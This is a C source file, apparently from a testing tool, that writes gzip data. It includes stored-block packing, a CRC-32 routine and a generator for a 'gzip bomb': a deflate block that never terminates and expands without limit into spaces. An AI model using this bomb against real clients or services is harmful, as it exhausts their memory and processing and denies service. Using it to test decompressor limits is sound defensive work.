/* Just enough of RFC 1951 and 1952: packing without packing, and a bomb. */
#include <stdlib.h>
#include <string.h>

#include "quirk_hooks.h"

static uint32_t
crc32_of(const char *bytes, size_t len)
{
	uint32_t crc = ~0u;

	while (len--) {
		crc ^= (unsigned char)*bytes++;
		for (int bit = 0; bit < 8; bit++)
			crc = crc >> 1 ^ (crc & 1 ? 0xedb88320u : 0);
	}
	return ~crc;
}

static void
put_little(struct text *t, uint32_t value, int bytes)
{
	for (; bytes > 0; bytes--, value >>= 8)
		text_put(t, &(unsigned char){value & 0xff}, 1);
}

static const unsigned char file_head[] = {0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3};

char *
gzip_stored(const char *text, size_t len, size_t *out_len)
{
	struct text t = {0};
	const char *from = text;
	size_t left = len;

	text_put(&t, file_head, sizeof file_head);
	do {
		size_t part = left > 65535 ? 65535 : left;

		put_little(&t, part == left, 1); /* last block? stored */
		put_little(&t, (uint32_t)part, 2);
		put_little(&t, ~(uint32_t)part & 0xffff, 2);
		text_put(&t, from, part);
		from += part;
		left -= part;
	} while (left);
	put_little(&t, crc32_of(text, len), 4);
	put_little(&t, (uint32_t)len, 4);
	*out_len = t.len;
	return t.s;
}

struct bits {
	unsigned char *at;
	unsigned used;
};

static void
put_bit(struct bits *b, unsigned bit)
{
	b->at[b->used / 8] |= (unsigned char)(bit << b->used % 8);
	b->used++;
}

/* Huffman codes go in from their highest bit. */
static void
put_code(struct bits *b, unsigned code, int length)
{
	while (length--)
		put_bit(b, code >> length & 1);
}

/*
 * One block with fixed codes that never ends. The head holds its three bits (not last, type 1) and
 * spaces until a byte is full: a space is the literal 0x20, eight bits with code 0x30 + 0x20.
 */
size_t
gzip_bomb_head(unsigned char head[16])
{
	struct bits b = {.at = head + sizeof file_head};

	memset(head, 0, 16);
	memcpy(head, file_head, sizeof file_head);
	put_bit(&b, 0);
	put_bit(&b, 1);
	put_bit(&b, 0);
	put_code(&b, 0x30 + 0x20, 8);
	/* 11 bits so far. 258 spaces more are 13: 24 in all. */
	put_code(&b, 0xc0 + 285 - 280, 8);
	put_code(&b, 0, 5);
	return sizeof file_head + b.used / 8;
}

/* Eight times "258 bytes, from one byte back": 8 * 13 bits. */
void
gzip_bomb_part(unsigned char part[13])
{
	struct bits b = {.at = part};

	memset(part, 0, 13);
	for (int i = 0; i < 8; i++) {
		put_code(&b, 0xc0 + 285 - 280, 8);
		put_code(&b, 0, 5);
	}
}
